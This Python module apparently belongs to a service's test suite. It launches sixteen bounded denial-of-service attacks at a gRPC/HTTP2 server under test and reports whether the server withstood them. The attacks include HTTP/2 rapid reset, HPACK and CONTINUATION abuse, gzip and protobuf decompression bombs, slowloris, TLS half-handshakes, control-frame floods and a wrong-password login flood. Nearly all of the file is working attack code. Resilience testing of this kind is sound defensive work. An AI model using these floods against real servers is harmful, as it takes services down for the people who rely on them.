"""Attacks by one client without credentials, from one address. Each goes on for some seconds and tells what became of it.

Run as a program it reads {"attack", "address", "http", "seconds", "password"} from standard input and prints as JSON what became
of it, and whether somebody else than the attacker suffered, as far as the attack itself looks for that.
"""

import collections
import json
import socket
import ssl
import sys
import time
import urllib.error
import urllib.request
import zlib

from tests.support.http2 import wire

# Another address than the honest client's.
SOURCE = "127.0.0.2"

CREATE_SESSION = "gatehouse.v1.SessionService/CreateSession"
HEALTH_CHECK = "grpc.health.v1.Health/Check"
REFLECTION = "grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
# What a client may send on a stream before the server has read any of it.
WINDOW = 65535
CANCEL = (8).to_bytes(4, "big")


class Attack:
    """What one of them works with. Everything is bounded by `seconds`."""

    def __init__(self, plan):
        self.plan = plan
        self.connections = []
        self.notes = []
        self.refused = 0
        self.harmless = True
        self._until = time.monotonic() + plan["seconds"]

    def going_on(self):
        return time.monotonic() < self._until

    def wait(self, seconds):
        time.sleep(max(0.0, min(seconds, self._until - time.monotonic())))

    def connect(self, **options):
        """None if the server does not let it in."""
        try:
            made = wire.Connection(self.plan["address"], source=SOURCE, **options)
        except OSError:
            self.refused += 1
            return None
        self.connections.append(made)
        return made

    def repeat(self, step, **options):
        """One connection after the other, `step` on each until it is closed."""
        while self.going_on():
            connection = self.connect(**options)
            if connection is None:
                self.wait(0.1)
                continue
            step(connection)
            connection.look(wait=0.2)
            connection.close()

    def outcome(self):
        for connection in self.connections:
            connection.look()
        said = collections.Counter(
            f"GOAWAY {connection.goaway[0]} '{connection.goaway[1]}'" for connection in self.connections if connection.goaway
        )
        closed = sum(connection.closed_by_server for connection in self.connections)
        megabytes = sum(connection.sent for connection in self.connections) / 1e6
        parts = [f"{len(self.connections)} connections, {closed} closed, {megabytes:.1f} MB sent"]
        parts += [f"{count} x {text}" for text, count in said.most_common(2)]
        if self.refused:
            parts.append(f"{self.refused} not let in")
        return "; ".join(parts + self.notes)


def hpack_integer(attack):
    """An integer of HPACK that never ends, over CONTINUATION frames."""

    def step(connection):
        connection.send(wire.frame(wire.HEADERS, 0, 1, b"\x7f" + b"\xff" * 20))
        for _ in range(400):
            if not connection.send(wire.frame(wire.CONTINUATION, 0, 1, b"\xff")):
                return
        while attack.going_on() and connection.send(wire.frame(wire.CONTINUATION, 0, 1, b"\xff")):
            attack.wait(0.01)

    attack.repeat(step)


def large_header(attack):
    """One header value of 21 MB."""
    part = b"x" * 16000

    def step(connection):
        # A literal whose length is given as 21 MB.
        connection.send(wire.frame(wire.HEADERS, 0, 1, wire.call_headers(HEALTH_CHECK) + b"\0\x01x\x7f\xc1\xdb\x81\x0a"))
        for _ in range(21_000_000 // len(part)):
            if not attack.going_on() or not connection.send(wire.frame(wire.CONTINUATION, 0, 1, part)):
                return

    attack.repeat(step)


def _zeros(megabytes):
    """As many zeros as gzip, without the end: who gets there has lost already."""
    packer = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
    begin, again = (packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    return begin + again * (megabytes - 1)


def _send_call(connection, stream, block, body):
    """Headers, and as much of the message as the window of a stream takes."""
    connection.send(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, block))
    sent = body[:WINDOW]
    for at in range(0, len(sent), 16000):
        last = at + 16000 >= len(body)
        connection.send(wire.frame(wire.DATA, wire.END_STREAM if last else 0, stream, sent[at : at + 16000]))


def gzip_bomb(attack):
    """Messages that inflate to a thousand times their size, at a public method with and without a body of some use."""
    small, large = wire.message(_zeros(55), flags=1), wire.message(_zeros(800), flags=1)
    headers = [wire.call_headers(method, more=[("grpc-encoding", "gzip")]) for method in (HEALTH_CHECK, CREATE_SESSION)]

    def step(connection):
        stream = 1
        while attack.going_on() and not (connection.closed or connection.stuck) and stream < 1000:
            for body in (small, large):
                _send_call(connection, stream, headers[stream // 2 % 2], body)
                stream += 2
            connection.look(wait=0.01)

    attack.repeat(step)


def headers_only(attack):
    """Calls of a public method that send their headers and nothing else, 900 a second."""
    opened = 0
    begin = time.monotonic()
    block = wire.call_headers(CREATE_SESSION)
    connection, stream = None, 1
    while attack.going_on():
        if connection is None or connection.closed or stream > 1800:
            connection, stream = attack.connect(), 1
            if connection is None:
                attack.wait(0.1)
                continue
        connection.send(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, block))
        stream += 2
        opened += 1
        for one in attack.connections:
            one.look()
        attack.wait(begin + opened / 900 - time.monotonic())
    attack.notes.append(f"{opened} calls opened")


def reflection_streams(attack):
    """Ten thousand silent streams of a public method on eleven connections."""
    block = wire.call_headers(REFLECTION)
    held = set()
    for _ in range(11):
        connection = attack.connect()
        if connection is None:
            continue
        for stream in range(1, 1818, 2):
            connection.send(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, block))
            held.add((id(connection), stream))
    while attack.going_on():
        for connection in attack.connections:
            for one in connection.look():
                if one.type == wire.RESET or one.flags & wire.END_STREAM:
                    held.discard((id(connection), one.stream))
        attack.wait(0.1)
    attack.notes.append(f"{len(held)} streams open at the end")


def _struct_bomb(size):
    """CreateSessionRequest.context: as many maps of one key as fit."""

    def field(number, body):
        length, prefix = len(body), b""
        while length >= 128:
            prefix += bytes((length % 128 + 128,))
            length //= 128
        return bytes((number << 3 | 2,)) + prefix + bytes((length,)) + body

    entry = field(1, field(1, b"a") + field(2, b"\x08\0"))
    nested = field(1, field(2, field(6, field(1, field(5, entry)) * 4)))
    return field(1, b"x") + field(2, b"x") + field(5, nested * (size // len(nested)))


def struct_bombs(attack):
    """Structs of maps of one key, 4 MB and as much as a public method takes."""
    bodies = [wire.message(_struct_bomb(size)) for size in (60_000, 4_000_000)]
    block = wire.call_headers(CREATE_SESSION)

    def step(connection):
        stream = 1
        while attack.going_on() and not (connection.closed or connection.stuck) and stream < 1000:
            for body in bodies:
                _send_call(connection, stream, block, body)
                stream += 2
            connection.look(wait=0.01)

    attack.repeat(step)


def slow_http(attack):
    """Fifty connections to the HTTP port that send a byte now and then."""
    host, _, port = attack.plan["http"].rpartition(":")
    sockets = []
    for _ in range(50):
        made = socket.socket()
        made.bind((SOURCE, 0))
        made.connect((host, int(port)))
        made.sendall(b"GET /readyz HTTP/1.1\r\nHost: x\r\nX: ")
        sockets.append(made)
    times, failed = [], 0
    while attack.going_on():
        for made in list(sockets):
            try:
                made.sendall(b"x")
            except OSError:
                sockets.remove(made)
        begin = time.monotonic()
        try:
            with urllib.request.urlopen(f"http://{attack.plan['http']}/readyz", timeout=10) as answer:
                answer.read()
        except (OSError, urllib.error.URLError):
            failed += 1
        times.append(time.monotonic() - begin)
        attack.wait(0.2)
    attack.harmless = failed == 0 and max(times, default=0) < 1
    attack.notes.append(f"{50 - len(sockets)} of 50 closed; /readyz: {len(times)} asked, {failed} failed, worst {max(times, default=0):.2f} s")


def rapid_reset(attack):
    """Calls that are taken back at once, as fast as they go."""
    block = wire.call_headers(CREATE_SESSION)

    def step(connection):
        stream = 1
        while attack.going_on() and stream < 2_000_000:
            batch = b"".join(
                wire.frame(wire.HEADERS, wire.END_HEADERS, at, block) + wire.frame(wire.RESET, 0, at, CANCEL)
                for at in range(stream, stream + 100, 2)
            )
            if not connection.send(batch):
                return
            stream += 100
            connection.look()

    attack.repeat(step)


def unread_answers(attack):
    """Streams that ask for long answers and are never read."""
    symbol = b"gatehouse.v1.UserService"
    question = wire.message(b"\x22" + bytes((len(symbol),)) + symbol)
    block = wire.call_headers(REFLECTION)
    settings = wire.INITIAL_WINDOW_SIZE.to_bytes(2, "big") + (2**31 - 1).to_bytes(4, "big")
    for _ in range(36):
        connection = attack.connect(settings=settings, receive_buffer=4096)
        if connection is None:
            continue
        connection.send(wire.frame(wire.WINDOW_UPDATE, 0, 0, (2**30).to_bytes(4, "big")))
        for stream in range(1, 200, 2):
            ok = connection.send(
                wire.frame(wire.HEADERS, wire.END_HEADERS, stream, block) + wire.frame(wire.DATA, 0, stream, question * 20)
            )
            if not ok or not attack.going_on():
                break
    while attack.going_on():
        attack.wait(0.2)


def silent_connections(attack):
    """Four thousand TCP connections that say nothing."""
    for _ in range(4000):
        if not attack.going_on():
            break
        attack.connect(greet=False)
    while attack.going_on():
        attack.wait(0.2)


def tls_half_handshakes(attack):
    """A thousand TLS handshakes that stop after their first message."""
    for _ in range(1000):
        if not attack.going_on():
            break
        connection = attack.connect(greet=False)
        if connection is None:
            continue
        outgoing = ssl.MemoryBIO()
        try:
            wire.tls_client().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost").do_handshake()
        except ssl.SSLWantReadError:
            pass
        connection.send(outgoing.read())
    while attack.going_on():
        attack.wait(0.2)


def _flood(attack, frames):
    def step(connection):
        while attack.going_on() and connection.send(frames * 200):
            connection.look()

    attack.repeat(step)


def ping_flood(attack):
    """PING frames, as fast as they go."""
    _flood(attack, wire.frame(wire.PING, 0, 0, b"12345678"))


def settings_flood(attack):
    """SETTINGS frames, as fast as they go."""
    _flood(attack, wire.frame(wire.SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff"))


def window_update_flood(attack):
    """WINDOW_UPDATE frames of one byte, as fast as they go."""
    _flood(attack, wire.frame(wire.WINDOW_UPDATE, 0, 0, b"\0\0\0\x01"))


def empty_data_flood(attack):
    """DATA frames without data, as fast as they go."""

    def step(connection):
        connection.send(wire.frame(wire.HEADERS, wire.END_HEADERS, 1, wire.call_headers(REFLECTION)))
        while attack.going_on() and connection.send(wire.frame(wire.DATA, 0, 1) * 200):
            connection.look()

    attack.repeat(step)


def _login(name, password):
    name, secret = name.encode(), password.encode()
    return wire.message(b"\x0a" + bytes((len(name),)) + name + b"\x12" + bytes((len(secret),)) + secret)


def wrong_logins(attack):
    """Four hundred logins with a wrong password at a time, of many accounts, and honest ones from another address."""
    block, right = wire.call_headers(CREATE_SESSION), _login("root", attack.plan["password"])
    streams = {}

    def wrong():
        return _login(f"somebody{sum(streams.values()) % 10_000}", "a wrong password")

    def ask(connection, body):
        stream = streams[connection]
        streams[connection] = stream + 2
        connection.send(
            wire.frame(wire.HEADERS, wire.END_HEADERS, stream, block) + wire.frame(wire.DATA, wire.END_STREAM, stream, body)
        )

    for _ in range(4):
        connection = attack.connect()
        streams[connection] = 1
        for _ in range(100):
            ask(connection, wrong())
    honest = wire.Connection(attack.plan["address"])
    streams[honest] = 1
    times, waits_since, refused, has_message = [], None, 0, False
    while attack.going_on():
        if waits_since is None:
            waits_since, has_message = time.monotonic(), False
            ask(honest, right)
        for connection in attack.connections:
            for one in connection.look():
                if one.flags & wire.END_STREAM and one.type in (wire.HEADERS, wire.DATA):
                    refused += 1
                    ask(connection, wrong())
        for one in honest.look(wait=0.01):
            has_message = has_message or (one.type == wire.DATA and len(one.payload) > 5)
            if one.stream and one.flags & wire.END_STREAM and one.type in (wire.HEADERS, wire.DATA):
                times.append((time.monotonic() - waits_since, has_message))
                waits_since = None
    served = sorted(seconds for seconds, good in times if good)
    worst = f"worst {served[-1]:.2f} s, median {served[len(served) // 2]:.2f} s" if served else "none"
    attack.harmless = bool(served) and len(served) == len(times) and served[-1] < 3
    attack.notes.append(f"{refused} answered; honest logins: {len(served)} of {len(times)} good, {worst}")


ATTACKS = {
    one.__name__: one
    for one in (
        hpack_integer,
        large_header,
        gzip_bomb,
        headers_only,
        reflection_streams,
        struct_bombs,
        slow_http,
        rapid_reset,
        unread_answers,
        silent_connections,
        tls_half_handshakes,
        ping_flood,
        settings_flood,
        window_update_flood,
        empty_data_flood,
        wrong_logins,
    )
}


def main():
    plan = json.loads(sys.stdin.readline())
    attack = Attack(plan)
    ATTACKS[plan["attack"]](attack)
    print(json.dumps({"became": attack.outcome(), "harmless": attack.harmless}))


if __name__ == "__main__":
    main()
